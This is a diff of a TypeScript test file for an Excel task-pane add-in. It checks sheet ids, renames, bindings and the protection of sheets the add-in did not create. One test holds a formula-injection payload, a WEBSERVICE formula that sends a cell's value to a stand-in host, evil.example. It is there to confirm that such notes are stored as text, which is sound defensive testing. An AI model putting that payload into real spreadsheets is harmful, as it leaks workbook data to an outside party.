@@ -2,12 +2,12 @@
  * The task pane's Office.js workbook host, driven by office-addin-mock: Excel.run, load and sync as
  * Office.js has them (a value read before load and sync is an error in the mock, too).
  */
+import fc from "fast-check";
 import { OfficeMockObject } from "office-addin-mock";
 import { reportTable } from "../../src/core";
-import { HostError } from "../../src/taskpane/host";
 import { officeHost, SETTINGS_KEY } from "../../src/taskpane/office-host";
 import { readScenario } from "../../src/taskpane/scenario";
-import { emptySheetState } from "../../src/taskpane/state";
+import { emptySheetState, sheetStateOf } from "../../src/taskpane/state";
 import { scenarioSheet, SCENARIOS, SheetDefinition, sheetAsRows, summarySheet } from "../../src/template/planner";
 
 type Grid = unknown[][];
@@ -20,16 +20,24 @@ interface Written {
   formats: Record<string, Grid>;
   bold: string[];
   frozen: Record<string, number>;
+  /** Every write in the order the add-in made it: "numberFormat Sheet!key", "values Sheet!key". */
+  order: string[];
 }
 
-/** A workbook of sheets holding cell blocks ("B3:B6" → values), as an office-addin-mock Excel. */
+/**
+ * A workbook of sheets holding cell blocks ("B3:B6" → values), as an office-addin-mock Excel. Each
+ * sheet has an id, as Office.js gives, that stays when `rename` renames it.
+ */
 function mockExcel(sheets: Record<string, Record<string, Grid>>, active: string, selection = "Growth!B10") {
-  const written: Written = { added: [], cleared: [], values: {}, formulas: {}, formats: {}, bold: [], frozen: {} };
+  const written: Written = { added: [], cleared: [], values: {}, formulas: {}, formats: {}, bold: [], frozen: {}, order: [] };
   const ranges: Record<string, { values: Grid; text: Grid }> = {};
   for (const [sheet, blocks] of Object.entries(sheets)) {
     for (const [cells, values] of Object.entries(blocks)) ranges[`${sheet}!${cells}`] = { values, text: values.map((row) => row.map((v) => String(v ?? ""))) };
   }
-  const names = () => [...Object.keys(sheets), ...written.added];
+  let nextId = 1;
+  const book = Object.keys(sheets).map((name) => ({ id: `{sheet-${nextId++}}`, name }));
+  const byName = (name: string) => book.find((s) => s.name.toUpperCase() === name.toUpperCase());
+  const activeId = byName(active)?.id;
   // Assigned once the mock exists; the closures below read it when called.
   // eslint-disable-next-line prefer-const, @typescript-eslint/no-explicit-any
   let root: any;
@@ -37,28 +45,34 @@ function mockExcel(sheets: Record<string, Record<string, Grid>>, active: string,
   // Writes go to plain recording objects; reads come from mock ranges in the tree, so load/sync apply.
   const writableRange = (sheet: string, key: string) => {
     const format = { font: {} as { bold?: boolean }, fill: {}, autofitColumns: () => undefined };
+    const where = `${sheet}!${key}`;
     const range = {
       format,
       clear: () => written.cleared.push(sheet),
       set values(v: Grid) {
-        written.values[`${sheet}!${key}`] = v;
+        written.values[where] = v;
+        written.order.push(`values ${where}`);
       },
       set formulas(v: Grid) {
-        written.formulas[`${sheet}!${key}`] = v;
+        written.formulas[where] = v;
+        written.order.push(`formulas ${where}`);
       },
       set numberFormat(v: Grid) {
-        written.formats[`${sheet}!${key}`] = v;
+        written.formats[where] = v;
+        written.order.push(`numberFormat ${where}`);
       },
     };
-    Object.defineProperty(format.font, "bold", { set: (b) => b && written.bold.push(`${sheet}!${key}`) });
+    Object.defineProperty(format.font, "bold", { set: (b) => b && written.bold.push(where) });
     return range;
   };
-  const sheetObject = (name: string) => ({
+  const sheetObject = (ref: { id: string; name: string }) => ({
     isNullObject: false,
-    name,
-    getRange: (cells?: string) => (cells && root.context.workbook.ranges[`${name}!${cells}`]) ?? writableRange(name, cells ?? "all"),
-    getRangeByIndexes: (r: number, c: number, h: number, w: number) => writableRange(name, `${r},${c},${h},${w}`),
-    freezePanes: { freezeRows: (n: number) => (written.frozen[name] = n) },
+    id: ref.id,
+    name: ref.name,
+    load: () => undefined,
+    getRange: (cells?: string) => (cells && root.context.workbook.ranges[`${ref.name}!${cells}`]) ?? writableRange(ref.name, cells ?? "all"),
+    getRangeByIndexes: (r: number, c: number, h: number, w: number) => writableRange(ref.name, `${r},${c},${h},${w}`),
+    freezePanes: { freezeRows: (n: number) => (written.frozen[ref.name] = n) },
     activate: () => undefined,
   });
   const data = {
@@ -66,14 +80,22 @@ function mockExcel(sheets: Record<string, Record<string, Grid>>, active: string,
       workbook: {
         ranges,
         selection: { address: selection },
-        active: { name: active },
         worksheets: {
-          items: [] as { name: string }[],
-          getItemOrNullObject: (name: string) => (names().includes(name) ? sheetObject(name) : { isNullObject: true }),
-          getActiveWorksheet: () => root.context.workbook.active,
+          items: [] as { id: string; name: string }[],
+          // Office.js finds a sheet by name (in any case) or by id.
+          getItemOrNullObject: (key: string) => {
+            const ref = book.find((s) => s.id === key) ?? byName(key);
+            return ref ? sheetObject(ref) : { isNullObject: true };
+          },
+          getItem: (key: string) => sheetObject(book.find((s) => s.id === key) ?? byName(key)!),
+          getActiveWorksheet: () => sheetObject(book.find((s) => s.id === activeId)!),
           add: (name: string) => {
+            // Excel refuses a name any sheet has, in any case.
+            if (byName(name)) throw new Error(`ItemAlreadyExists: ${name}`);
             written.added.push(name);
-            return sheetObject(name);
+            const ref = { id: `{sheet-${nextId++}}`, name };
+            book.push(ref);
+            return sheetObject(ref);
           },
         },
         getSelectedRange: () => root.context.workbook.selection,
@@ -84,9 +106,18 @@ function mockExcel(sheets: Record<string, Record<string, Grid>>, active: string,
   root = new OfficeMockObject(data);
   // The collection's items as Office.js loads them.
   root.context.workbook.worksheets.load = () => {
-    root.context.workbook.worksheets.items = names().map((name) => ({ name }));
+    root.context.workbook.worksheets.items = book.map((s) => ({ ...s }));
   };
-  return { excel: root, written };
+  /** Renames a sheet as a user would: same id, new name, its cells with it. */
+  const rename = (from: string, to: string) => {
+    const ref = byName(from)!;
+    for (const key of Object.keys(root.context.workbook.ranges)) {
+      if (key.startsWith(`${ref.name}!`)) root.context.workbook.ranges[`${to}!${key.slice(ref.name.length + 1)}`] = root.context.workbook.ranges[key];
+    }
+    ref.name = to;
+  };
+  const idOf = (name: string) => byName(name)!.id;
+  return { excel: root, written, rename, idOf };
 }
 
 function mockOffice(stored?: string, fail = false) {
@@ -147,7 +178,7 @@ describe("officeHost", () => {
     const { excel } = mockExcel(templateWorkbook(), "Growth");
     (globalThis as Record<string, unknown>).Excel = excel;
     const host = officeHost();
-    expect(await host.activeSheetName()).toBe("Growth");
+    expect(await host.activeSheet()).toEqual({ id: "{sheet-1}", name: "Growth" });
     const scenario = await readScenario(host, "Growth", { ...emptySheetState(), month: 6 });
     expect(scenario).toMatchObject({ template: true, stage: 2, baseCpm: 80, baseCpa: 30, targetCpa: 60, thisMonth: 500_000, proposed: 550_000 });
     expect(scenario.months[0]).toBe("Jan 1月");
@@ -187,7 +218,10 @@ describe("officeHost", () => {
     workbook.Growth.B5 = [[30]];
     const { excel } = mockExcel(workbook, "Summary");
     (globalThis as Record<string, unknown>).Excel = excel;
-    const state = { ...emptySheetState(), bindings: { thisMonth: "'Plan 2027'!B2", proposed: "'Plan 2027'!B3", baseCpa: "Growth!B5" } };
+    const state = {
+      ...emptySheetState(),
+      bindings: { thisMonth: { address: "'Plan 2027'!B2" }, proposed: { address: "'Plan 2027'!B3" }, baseCpa: { address: "Growth!B5" } },
+    };
     const scenario = await readScenario(officeHost(), "Summary", state);
     expect(scenario).toMatchObject({ template: false, thisMonth: 300_000, proposed: 450_000, baseCpa: 30 });
   });
@@ -195,10 +229,15 @@ describe("officeHost", () => {
   it("says which sheet is missing when a bound sheet was renamed or deleted", async () => {
     const { excel } = mockExcel(templateWorkbook(), "Summary");
     (globalThis as Record<string, unknown>).Excel = excel;
-    const state = { ...emptySheetState(), bindings: { thisMonth: "'Old plan'!B2" } };
-    const error = await readScenario(officeHost(), "Summary", state).catch((e) => e);
-    expect(error).toBeInstanceOf(HostError);
-    expect(error).toMatchObject({ code: "SHEET_MISSING", detail: "Old plan" });
+    // A binding whose sheet is gone is reported (to offer a rebind), and the others are still read.
+    const state = { ...emptySheetState(), bindings: { thisMonth: { address: "'Old plan'!B2" }, baseCpa: { address: "Growth!B5" } } };
+    const workbook = templateWorkbook();
+    workbook.Growth.B5 = [[30]];
+    (globalThis as Record<string, unknown>).Excel = mockExcel(workbook, "Summary").excel;
+    const scenario = await readScenario(officeHost(), "Summary", state);
+    expect(scenario.missing).toEqual({ thisMonth: "Old plan" });
+    expect(scenario).toMatchObject({ baseCpa: 30, thisMonth: undefined });
+    expect(scenario.bound).toEqual({ baseCpa: "Growth!B5" });
     await expect(readScenario(officeHost(), "Gone", emptySheetState())).rejects.toMatchObject({ code: "SHEET_MISSING", detail: "Gone" });
   });
 
@@ -212,14 +251,89 @@ describe("officeHost", () => {
     const { excel, written } = mockExcel(templateWorkbook(), "Growth");
     (globalThis as Record<string, unknown>).Excel = excel;
     const table = reportTable({ 2: { status: "risk", note: "<b>cut</b>", checkedOn: "2026-11-22" } }, { 2: "cap 547,756" }, "en");
-    await officeHost().writeTable("Minefields", table);
+    const report = await officeHost().writeTable({ name: "Minefields" }, table);
+    expect(report).toEqual({ id: "{sheet-4}", name: "Minefields" });
     expect(written.added).toEqual(["Minefields"]);
     expect(written.values["Minefields!0,0,8,5"]).toEqual(table);
     expect(written.bold).toContain("Minefields!0,0,1,5");
     expect(written.frozen.Minefields).toBe(1);
-    await officeHost().writeTable("Minefields", table);
+    await officeHost().writeTable(report, table);
     expect(written.added).toEqual(["Minefields"]);
     expect(written.cleared).toEqual(["Minefields"]);
+  });
+
+  it("issue 14 item 7: writes a note that starts with = (or +, -, a number) as text, never as a formula", async () => {
+    const { excel, written } = mockExcel(templateWorkbook(), "Growth");
+    (globalThis as Record<string, unknown>).Excel = excel;
+    const hostile = '=WEBSERVICE("http://evil.example/?"&Growth!B4)';
+    const table = reportTable({ 1: { status: "clear", note: hostile }, 2: { status: "risk", note: "=1+1" }, 3: { status: "watch", note: "+86 138" } }, {}, "en");
+    await officeHost().writeTable({ name: "Minefields - Growth" }, table);
+    const key = "Minefields - Growth!0,0,8,5";
+    expect(written.values[key]).toEqual(table);
+    expect(written.formulas[key]).toBeUndefined();
+    // Every text cell is formatted as text ("@") before its value is set, in the same batch.
+    expect(written.formats[key]).toEqual(table.map((row) => row.map(() => "@")));
+    expect(written.order.indexOf(`numberFormat ${key}`)).toBeLessThan(written.order.indexOf(`values ${key}`));
+    expect(written.order.indexOf(`numberFormat ${key}`)).toBeGreaterThanOrEqual(0);
+    // Numbers keep a number format.
+    await officeHost().writeTable({ name: "Figures" }, [["month", "budget"], ["Jan", 300000]]);
+    expect(written.formats["Figures!0,0,2,2"]).toEqual([["@", "@"], ["@", "General"]]);
+  });
+
+  it("property: every text cell of any table is formatted as text before its values are set", async () => {
+    const cellValue = fc.oneof(fc.string(), fc.constantFrom("=1+1", "+1", "-1", "@SUM(A1)", "=", "0012"), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constant(null));
+    await fc.assert(
+      fc.asyncProperty(fc.array(fc.array(cellValue, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }), async (rows) => {
+        const { excel, written } = mockExcel(templateWorkbook(), "Growth");
+        (globalThis as Record<string, unknown>).Excel = excel;
+        await officeHost().writeTable({ name: "Report" }, rows);
+        const width = Math.max(...rows.map((row) => row.length));
+        const key = `Report!0,0,${rows.length},${width}`;
+        const values = written.values[key];
+        const formats = written.formats[key];
+        values.forEach((row, r) => row.forEach((value, c) => expect(formats[r][c]).toBe(typeof value === "string" ? "@" : "General")));
+        expect(written.order.indexOf(`numberFormat ${key}`)).toBeLessThan(written.order.indexOf(`values ${key}`));
+        expect(written.formulas[key]).toBeUndefined();
+      }),
+      { numRuns: 100 },
+    );
+  });
+
+  it("issue 14 items 8–9: never writes into or replaces a sheet the pane did not make, whatever its case", async () => {
+    const workbook = templateWorkbook();
+    workbook.Minefields = { A1: [["my own notes"]] };
+    const { excel, written } = mockExcel(workbook, "Growth");
+    (globalThis as Record<string, unknown>).Excel = excel;
+    const table = reportTable({}, {}, "en");
+    await expect(officeHost().writeTable({ name: "minefields" }, table)).rejects.toMatchObject({ code: "SHEET_EXISTS", detail: "minefields" });
+    // An id the workbook no longer has (the report was deleted) is not a licence to take a name.
+    await expect(officeHost().writeTable({ id: "{gone}", name: "MINEFIELDS" }, table)).rejects.toMatchObject({ code: "SHEET_EXISTS" });
+    await expect(officeHost().addSheet(scenarioSheet({ ...growth, name: "growth" }))).rejects.toMatchObject({ code: "SHEET_EXISTS", detail: "growth" });
+    expect(written.cleared).toEqual([]);
+    expect(written.added).toEqual([]);
+    expect(Object.keys(written.values)).toEqual([]);
+  });
+
+  it("issue 14 item 11: a binding made with the sheet's id follows the sheet when it is renamed", async () => {
+    const workbook = templateWorkbook();
+    workbook["Plan 2027"] = { B2: [[300_000]], B3: [[450_000]] };
+    const { excel, rename, idOf } = mockExcel(workbook, "Summary");
+    (globalThis as Record<string, unknown>).Excel = excel;
+    const id = idOf("Plan 2027");
+    const state = {
+      ...emptySheetState(),
+      bindings: { thisMonth: { address: "'Plan 2027'!B2", sheetId: id }, proposed: { address: "'Plan 2027'!B3", sheetId: id } },
+    };
+    rename("Plan 2027", "Plan 2028");
+    const scenario = await readScenario(officeHost(), "Summary", state);
+    expect(scenario).toMatchObject({ thisMonth: 300_000, proposed: 450_000, missing: {} });
+    expect(scenario.bound).toEqual({ thisMonth: "'Plan 2028'!B2", proposed: "'Plan 2028'!B3" });
+    // The scenario sheet itself, renamed, keeps its answers: the pane finds its entry by id.
+    rename("Summary", "Overview");
+    const active = await officeHost().activeSheet();
+    expect(active.name).toBe("Overview");
+    const saved = { version: 2 as const, sheets: [{ ...emptySheetState({ id: active.id, name: "Summary" }), answers: { 5: { status: "clear" as const, note: "kept" } } }] };
+    expect(sheetStateOf(saved, active).answers[5].note).toBe("kept");
   });
 
   it("adds a scenario sheet with the template's formulas and number formats", async () => {
